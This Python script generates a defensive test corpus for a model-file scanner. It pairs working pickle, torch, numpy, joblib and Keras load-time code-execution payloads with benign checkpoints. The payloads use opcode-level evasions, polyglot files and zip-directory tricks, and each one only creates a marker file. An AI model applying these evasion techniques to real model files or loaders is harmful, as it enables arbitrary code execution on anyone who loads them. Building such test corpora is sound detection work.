"""Generates the load-time safety corpus with the real libraries (torch, numpy, joblib).

Usage: python make_corpus.py OUT_DIR MARKER_DIR [MANIFEST]
Writes OUT_DIR/malicious/*, OUT_DIR/benign/* and MANIFEST (default OUT_DIR/manifest.json). Each malicious
file's payload creates MARKER_DIR/<id> when its loader (named in the manifest) reads it;
prove_corpus.py loads them and checks the markers. Nothing here is ever loaded by
modelseal: it only reads the bytes.
"""
import collections
import gzip
import io
import json
import os
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib

import numpy as np
import joblib
import torch

OUT, MARK = sys.argv[1], sys.argv[2]
MANIFEST = sys.argv[3] if len(sys.argv) > 3 else os.path.join(OUT, 'manifest.json')
os.makedirs(os.path.join(OUT, 'malicious'), exist_ok=True)
os.makedirs(os.path.join(OUT, 'benign'), exist_ok=True)
manifest = []


def add(kind, name, data, cls, loader):
    path = os.path.join(OUT, kind, name)
    if data is not None:
        with open(path, 'wb') as f:
            f.write(data)
    manifest.append({'kind': kind, 'file': f'{kind}/{name}', 'class': cls, 'loader': loader, 'id': name})


def marker(name):
    return os.path.join(MARK, name)


def shell(name):
    return f"touch '{marker(name)}'"


def pycode(name):
    return f"open({marker(name)!r}, 'w').close()"


# --- payloads: (label, function producing a __reduce__ tuple for the marker id) ---
import time, subprocess, timeit, cProfile, profile, imaplib, uuid, builtins, posix  # noqa: E401

PAYLOADS = {
    'os-system': lambda n: (os.system, (shell(n),)),
    'posix-system': lambda n: (posix.system, (shell(n),)),
    'os-popen': lambda n: (os.popen, (shell(n),)),
    'subprocess-call': lambda n: (subprocess.call, (['sh', '-c', shell(n)],)),
    'subprocess-popen': lambda n: (subprocess.Popen, (['sh', '-c', shell(n)],)),
    'subprocess-check-output': lambda n: (subprocess.check_output, (['sh', '-c', shell(n)],)),
    'subprocess-run': lambda n: (subprocess.run, (['sh', '-c', shell(n)],)),
    'subprocess-getoutput': lambda n: (subprocess.getoutput, (shell(n),)),
    'subprocess-getstatusoutput': lambda n: (subprocess.getstatusoutput, (shell(n),)),
    'builtins-exec': lambda n: (builtins.exec, (pycode(n),)),
    'builtins-eval': lambda n: (builtins.eval, (pycode(n),)),
    'timeit': lambda n: (timeit.timeit, (pycode(n), 'pass', time.perf_counter, 1)),
    'cprofile-run': lambda n: (cProfile.run, (pycode(n),)),
    'profile-run': lambda n: (profile.run, (pycode(n),)),
    'uuid-command': lambda n: (uuid._get_command_stdout, ('touch', marker(n))),
}


class Evil:
    def __init__(self, payload, n):
        self.r = PAYLOADS[payload](n)

    def __reduce__(self):
        return self.r


def evil(payload, n):
    return Evil(payload, n)


# 1. Raw pickles of every payload at protocols 0, 2 and 4 (with names that loaders and hubs use).
for payload in PAYLOADS:
    for proto in (0, 2, 4):
        n = f'{payload}-p{proto}.pkl'
        add('malicious', n, pickle.dumps(evil(payload, n), protocol=proto), f'pickle-protocol-{proto}', 'pickle')

# 2. Every protocol, os.system, in a pytorch_model.bin name (no PROTO header for 0 and 1).
for proto in (1, 3, 5):
    n = f'pytorch_model-p{proto}.bin'
    add('malicious', n, pickle.dumps(evil('os-system', n), protocol=proto), f'pickle-protocol-{proto}', 'pickle')

# 3. Hand-written opcode evasions.
def hand(n, body):
    add('malicious', n, body, 'opcode-evasion', 'pickle')

c = shell
hand('text-global-reduce.bin', f"cos\nsystem\n(S'{c('text-global-reduce.bin')}'\ntR.".encode())
hand('inst-opcode.bin', f"(S'{c('inst-opcode.bin')}'\nios\nsystem\n.".encode())
hand('obj-opcode.bin', f"(cos\nsystem\nS'{c('obj-opcode.bin')}'\no.".encode())
hand('truncated-after-reduce.bin', f"cos\nsystem\n(S'{c('truncated-after-reduce.bin')}'\ntR".encode())
hand('builtin-py2-eval.pkl', f"c__builtin__\neval\n(S\"{pycode('builtin-py2-eval.pkl')}\"\ntR.".encode())

def sg(module_op, name_op):
    return module_op + name_op + b'\x93'

def su(s):
    b = s.encode()
    return b'\x8c' + bytes([len(b)]) + b

def arg_tuple(s):
    b = s.encode()
    return b'\x8c' + bytes([len(b)]) + b + b'\x85'

def p4(n, body):
    hand(n, b'\x80\x04' + body + b'.')

n = 'escape-hex-stack-global.pkl'; hand(n, b"S'\\x6fs'\nS'sys\\x74em'\n\x93(S'" + c(n).encode() + b"'\ntR.")
n = 'escape-octal-stack-global.pkl'; hand(n, b"S'\\157s'\nS'\\163ystem'\n\x93(S'" + c(n).encode() + b"'\ntR.")
n = 'escape-unicode-stack-global.pkl'; hand(n, b"V\\u006fs\nVsys\\u0074em\n\x93(V" + c(n).encode() + b"\ntR.")
n = 'escape-newline-continuation.pkl'; hand(n, b"S'o\\\ns'\n" if False else b"S'\\x6f\\x73'\nS'system'\n\x93(S'" + c(n).encode() + b"'\ntR.")
n = 'memo-stack-global.pkl'; p4(n, su('os') + b'\x94' + su('system') + b'\x94' + b'0' + b'0' + b'h\x00h\x01\x93' + arg_tuple(c(n)) + b'R')
n = 'binput-stack-global.pkl'; p4(n, su('subprocess') + b'q\x07' + b'0' + su('getoutput') + b'r\x09\x00\x00\x00' + b'0' + b'h\x07j\x09\x00\x00\x00\x93' + arg_tuple(c(n)) + b'R')
n = 'put-get-text-memo.pkl'; hand(n, b"S'os'\np1\n0S'system'\np 2\n0g1\ng2\n\x93(S'" + c(n).encode() + b"'\ntR.")
n = 'dotted-torch-os.pkl'; p4(n, su('torch') + su('serialization.os.system') + b'\x93' + arg_tuple(c(n)) + b'R')
n = 'dotted-collections-sys.pkl'; p4(n, su('collections') + su('_sys.modules') + b'\x93' + b'0' + su('posixpath') + su('os.system') + b'\x93' + arg_tuple(c(n)) + b'R')
n = 'builtins-getattr-import.pkl'; p4(n, su('builtins') + su('getattr') + b'\x93' + su('builtins') + su('__import__') + b'\x93' + su('os') + b'\x85R' + su('system') + b'\x86R' + arg_tuple(c(n)) + b'R')
n = 'framed-protocol5.pkl'
body = su('os') + su('system') + b'\x93' + arg_tuple(c(n)) + b'R.'
hand(n, b'\x80\x05\x95' + struct.pack('<Q', len(body)) + body)
n = 'imaplib-stream.pkl'; p4(n, su('imaplib') + su('IMAP4_stream') + b'\x93' + arg_tuple(c(n)) + b'R')
n = 'binunicode8-names.pkl'; p4(n, b'\x8d' + struct.pack('<Q', 2) + b'os' + b'\x8d' + struct.pack('<Q', 6) + b'system' + b'\x93' + arg_tuple(c(n)) + b'R')
n = 'after-clean-pickle.pkl'; hand(n, pickle.dumps({'weights': [1, 2, 3]}, protocol=2) + pickle.dumps(evil('os-system', n), protocol=0))

# A GGUF header that is also a pickle: "G" is BINFLOAT, so pickle.load reads past the magic into a payload.
n = 'gguf-polyglot.gguf'
add('malicious', n, b'GGUF\x03\x00\x00\x00\x00' + pickle.dumps(evil('os-system', n), protocol=2)[2:] + b'\x00' * 32, 'polyglot', 'pickle')

# 4. Legacy torch (torch.save(_use_new_zipfile_serialization=False) layout): clean header pickles, then a protocol-0 payload.
def legacy(n, main):
    b = io.BytesIO()
    pickle.dump(0x1950A86A20F9469CFC6C, b, protocol=2)
    pickle.dump(1001, b, protocol=2)
    pickle.dump({'protocol_version': 1001, 'little_endian': True, 'type_sizes': {'short': 2, 'int': 4, 'long': 4}}, b, protocol=2)
    b.write(main)
    pickle.dump([], b, protocol=2)
    return b.getvalue()

n = 'legacy-torch-p0.bin'; add('malicious', n, legacy(n, pickle.dumps(evil('os-system', n), protocol=0)), 'torch-legacy', 'torch')
n = 'legacy-torch-p2.pt'; add('malicious', n, legacy(n, pickle.dumps(evil('subprocess-popen', n), protocol=2)), 'torch-legacy', 'torch')

# 5. torch zip checkpoints: torch.save of a payload, in the default and in a renamed archive folder.
for payload in ('os-system', 'builtins-exec', 'subprocess-run'):
    n = f'torch-zip-{payload}.pt'
    b = io.BytesIO(); torch.save({'w': torch.zeros(2), 'x': evil(payload, n)}, b)
    add('malicious', n, b.getvalue(), 'torch-zip', 'torch')
n = 'torch-zip-renamed-folder.bin'
src = io.BytesIO(); torch.save(evil('os-system', n), src)
zin = zipfile.ZipFile(io.BytesIO(src.getvalue()))
out = io.BytesIO()
with zipfile.ZipFile(out, 'w', zipfile.ZIP_STORED) as z:
    for info in zin.infolist():
        z.writestr('innocent/' + info.filename.split('/', 1)[1], zin.read(info))
add('malicious', n, out.getvalue(), 'torch-zip', 'torch')

# 6. A zip whose 32-bit end record lists readme.txt while its ZIP64 records list archive/data.pkl (Python's zipfile reads the latter).
def zip64_split(n):
    payload = pickle.dumps(evil('os-system', n), protocol=2)
    parts = []
    def local(name, data):
        nb = name.encode()
        crc = zlib.crc32(data)
        return struct.pack('<IHHHHHIIIHH', 0x04034b50, 20, 0, 0, 0, 0, crc, len(data), len(data), len(nb), 0) + nb + data, crc
    def central(name, data, crc, off):
        nb = name.encode()
        return struct.pack('<IHHHHHHIIIHHHHHII', 0x02014b50, 20, 20, 0, 0, 0, 0, crc, len(data), len(data), len(nb), 0, 0, 0, 0, 0, off) + nb
    readme = b'hello\n'
    l1, crc1 = local('readme.txt', readme)
    l2, crc2 = local('archive/data.pkl', payload)
    off2 = len(l1)
    body = l1 + l2
    cd1 = central('readme.txt', readme, crc1, 0)
    cd1_off = len(body)
    body += cd1
    cd2 = central('archive/data.pkl', payload, crc2, off2)
    cd2_off = len(body)
    body += cd2
    z64_off = len(body)
    body += struct.pack('<IQHHIIQQQQ', 0x06064b50, 44, 45, 45, 0, 0, 1, 1, len(cd2), cd2_off)
    body += struct.pack('<IIQI', 0x07064b50, 0, z64_off, 1)
    body += struct.pack('<IHHHHIIH', 0x06054b50, 0, 0, 1, 1, len(cd1), cd1_off, 0)
    return body
n = 'zip64-split-directory.pt'; add('malicious', n, zip64_split(n), 'zip-differential', 'zipfile-pickle')
# A harmless pickle with a zip behind it: pickle.load sees None, Python's zipfile (and Keras) see the zip.
n = 'pickle-then-zip.pkl'
zb = io.BytesIO()
with zipfile.ZipFile(zb, 'w') as z:
    z.writestr('archive/data.pkl', pickle.dumps(evil('os-system', n), protocol=2))
add('malicious', n, pickle.dumps(None, protocol=2) + zb.getvalue(), 'zip-differential', 'zipfile-pickle')

# 7. joblib: plain, gzip, zlib (analysed) and bz2, xz, lzma (refused as unscannable); object arrays with a payload.
for comp, ext in ((None, 'joblib'), ('gzip', 'pkl.gz'), ('zlib', 'pkl.z'), ('bz2', 'pkl.bz2'), ('xz', 'pkl.xz'), ('lzma', 'pkl.lzma')):
    n = f'joblib-{comp or "plain"}.{ext}'
    path = os.path.join(OUT, 'malicious', n)
    joblib.dump({'model': evil('os-system', n), 'coef': np.arange(10.0)}, path, compress=(comp, 3) if comp else 0)
    add('malicious', n, None, f'joblib-{comp or "plain"}', 'joblib')
for comp, ext in ((None, 'joblib'), ('gzip', 'joblib.gz')):
    n = f'joblib-object-array-{comp or "plain"}.{ext}'
    path = os.path.join(OUT, 'malicious', n)
    arr = np.empty(2, dtype=object); arr[0] = evil('subprocess-run', n); arr[1] = 1
    joblib.dump({'coef': np.arange(20.0), 'objs': arr}, path, compress=(comp, 3) if comp else 0)
    add('malicious', n, None, f'joblib-object-array', 'joblib')

# 8. numpy object arrays: .npy and .npz (stored and deflated).
arr = lambda n: np.array([evil('os-system', n), 1], dtype=object)
n = 'object-array.npy'; b = io.BytesIO(); np.save(b, arr(n), allow_pickle=True); add('malicious', n, b.getvalue(), 'npy-object', 'numpy')
n = 'object-array.npz'; b = io.BytesIO(); np.savez(b, ok=np.zeros(3), bad=arr(n)); add('malicious', n, b.getvalue(), 'npz-object', 'numpy')
n = 'object-array-renamed-member.npz'
npy = io.BytesIO(); np.save(npy, arr(n), allow_pickle=True)
b = io.BytesIO()
with zipfile.ZipFile(b, 'w') as z:
    z.writestr('ok.npy', (lambda x: (np.save(x, np.zeros(3)), x.getvalue())[1])(io.BytesIO()))
    z.writestr('bad', npy.getvalue())
add('malicious', n, b.getvalue(), 'npz-object', 'numpy')
n = 'object-array-compressed.npz'; b = io.BytesIO(); np.savez_compressed(b, ok=np.zeros(3), bad=arr(n)); add('malicious', n, b.getvalue(), 'npz-object', 'numpy')

# 9. torch legacy tar format (storages, tensors, pickle members).
def tar_ckpt(n, where):
    b = io.BytesIO()
    bad = pickle.dumps(evil('os-system', n), protocol=2)
    with tarfile.open(fileobj=b, mode='w', format=tarfile.PAX_FORMAT) as t:
        def member(name, data):
            info = tarfile.TarInfo(name); info.size = len(data); t.addfile(info, io.BytesIO(data))
        member('storages', (bad if where == 'storages' else pickle.dumps(0, protocol=2)) + pickle.dumps([], protocol=2))
        member('tensors', pickle.dumps(0, protocol=2))
        member('pickle', bad if where == 'pickle' else pickle.dumps({}, protocol=2))
    return b.getvalue()
n = 'legacy-tar.tar'; add('malicious', n, tar_ckpt(n, 'pickle'), 'torch-legacy-tar', 'torch')
n = 'legacy-tar-storages.tar'; add('malicious', n, tar_ckpt(n, 'storages'), 'torch-legacy-tar', 'torch')

# ----------------------------- benign -----------------------------
torch.manual_seed(0)
modules = {
    'linear': torch.nn.Linear(8, 4),
    'conv': torch.nn.Conv2d(3, 4, 3),
    'lstm': torch.nn.LSTM(4, 8),
    'embedding': torch.nn.Embedding(16, 4),
    'batchnorm': torch.nn.BatchNorm1d(4),
    'transformer': torch.nn.TransformerEncoderLayer(8, 2, 16),
    'mlp': torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2)),
}
for name, m in modules.items():
    for proto in (2, 3):
        n = f'{name}-state-dict-p{proto}.pt'
        b = io.BytesIO(); torch.save(m.state_dict(), b, pickle_protocol=proto); add('benign', n, b.getvalue(), 'torch-zip', 'torch')
    n = f'{name}-legacy.bin'
    b = io.BytesIO(); torch.save(m.state_dict(), b, _use_new_zipfile_serialization=False); add('benign', n, b.getvalue(), 'torch-legacy', 'torch')
for dt in (torch.float16, torch.bfloat16, torch.int8, torch.float64, torch.bool):
    n = f'tensors-{str(dt).split(".")[1]}.pt'
    b = io.BytesIO(); torch.save({'t': torch.ones(3, 2, dtype=dt), 'list': [torch.zeros(2, dtype=dt)], 'n': 3, 's': 'x'}, b); add('benign', n, b.getvalue(), 'torch-zip', 'torch')
n = 'checkpoint-nested.pt'
b = io.BytesIO(); torch.save({'epoch': 3, 'model': modules['mlp'].state_dict(), 'optim': {'lr': 0.1, 'betas': (0.9, 0.99)}, 'size': torch.Size([2, 3]), 'param': torch.nn.Parameter(torch.ones(2))}, b); add('benign', n, b.getvalue(), 'torch-zip', 'torch')
# Plain pickles of torch and collections types a checkpoint holds besides tensors.
for proto in (2, 3, 5):
    n = f'plain-pickle-torch-types-p{proto}.pkl'
    add('benign', n, pickle.dumps(collections.OrderedDict(size=torch.Size([3, 4]), dtype=torch.float16, counts=collections.Counter('aab'), dev=torch.device('cpu')), protocol=proto), 'pickle-torch-types', 'pickle')
# pickle.dumps(tensor) embeds torch.load(weights_only=False) of bytes (torch.storage._load_from_bytes): code execution by design.
n = 'pickle-dumps-tensor-load-from-bytes.pkl'
inner = io.BytesIO(); torch.save(evil('os-system', n), inner)
class LoadFromBytes:
    def __reduce__(self):
        return (torch.storage._load_from_bytes, (inner.getvalue(),))
add('malicious', n, pickle.dumps(LoadFromBytes(), protocol=2), 'torch-load-from-bytes', 'pickle')
for proto in (0, 2, 4):
    n = f'plain-containers-p{proto}.pkl'
    add('benign', n, pickle.dumps({'layers': [[1, 2.5, 'x'], (3, None, True)], 'names': {'a', 'b'}, 'raw': b'\x00\x01', 'od': collections.OrderedDict(k=1)}, protocol=proto), 'pickle-containers', 'pickle')
for proto in (2, 4, 5):
    n = f'numpy-pickle-p{proto}.pkl'
    add('benign', n, pickle.dumps({'w': np.arange(12, dtype=np.float32).reshape(3, 4), 'i': np.int64(7)}, protocol=proto), 'pickle-numpy', 'pickle')
for dt in ('float32', 'int64', 'uint8', 'complex64', 'U5'):
    n = f'array-{dt}.npy'; b = io.BytesIO(); np.save(b, np.zeros((3, 2), dtype=dt)); add('benign', n, b.getvalue(), 'npy', 'numpy')
n = 'structured.npy'; b = io.BytesIO(); np.save(b, np.zeros(3, dtype=[('a', '<f4'), ('b', '<i8')])); add('benign', n, b.getvalue(), 'npy', 'numpy')
n = 'arrays.npz'; b = io.BytesIO(); np.savez(b, a=np.ones(4), b=np.arange(6).reshape(2, 3)); add('benign', n, b.getvalue(), 'npz', 'numpy')
n = 'arrays-compressed.npz'; b = io.BytesIO(); np.savez_compressed(b, a=np.ones(400), b=np.arange(600)); add('benign', n, b.getvalue(), 'npz', 'numpy')
n = 'zeros-compressed.npz'; b = io.BytesIO(); np.savez_compressed(b, z=np.zeros(2_000_000, dtype=np.float32)); add('benign', n, b.getvalue(), 'npz', 'numpy')
for comp, ext in ((None, 'joblib'), ('gzip', 'joblib.gz'), ('zlib', 'joblib.z')):
    for what, obj in (('arrays', {'coef': np.random.RandomState(0).rand(50, 4), 'bias': np.zeros(4, dtype=np.float32), 'ids': np.arange(7)}),
                      ('list', [np.ones((2, 2)), np.arange(3, dtype=np.int16), {'k': np.zeros(5, dtype=np.uint8)}])):
        n = f'joblib-{what}-{comp or "plain"}.{ext}'
        joblib.dump(obj, os.path.join(OUT, 'benign', n), compress=(comp, 3) if comp else 0)
        add('benign', n, None, f'joblib-{comp or "plain"}', 'joblib')

# Keras (when installed, torch backend): Lambda layers carry marshalled code that load_model(safe_mode=False) runs.
try:
    os.environ.setdefault('KERAS_BACKEND', 'torch')
    import keras
except Exception:
    keras = None
if keras is not None:
    import logging
    logging.getLogger('absl').setLevel(logging.ERROR)
    def lam(n):
        code = pycode(n)
        return keras.layers.Lambda(lambda x: (exec(code), x)[1])
    for ext in ('keras', 'h5'):
        n = f'lambda-layer.{ext}'
        keras.Sequential([keras.Input((2,)), lam(n), keras.layers.Dense(1)]).save(os.path.join(OUT, 'malicious', n))
        add('malicious', n, None, f'keras-{ext}-lambda', 'keras')
    n = 'lambda-in-functional.keras'
    inp = keras.Input((3,)); h = keras.layers.Dense(4)(inp); out = lam(n)(h)
    keras.Model(inp, out).save(os.path.join(OUT, 'malicious', n))
    add('malicious', n, None, 'keras-lambda', 'keras')
    for name, model in (('dense', keras.Sequential([keras.Input((4,)), keras.layers.Dense(8, activation='relu'), keras.layers.Dense(2)])),
                        ('conv', keras.Sequential([keras.Input((8, 8, 1)), keras.layers.Conv2D(2, 3), keras.layers.Flatten(), keras.layers.Dense(1)]))):
        n = f'keras-{name}.keras'
        model.save(os.path.join(OUT, 'benign', n))
        add('benign', n, None, 'keras', 'keras')

with open(MANIFEST, 'w') as f:
    json.dump(manifest, f, indent=1)
print(json.dumps({'malicious': sum(1 for m in manifest if m['kind'] == 'malicious'), 'benign': sum(1 for m in manifest if m['kind'] == 'benign')}))
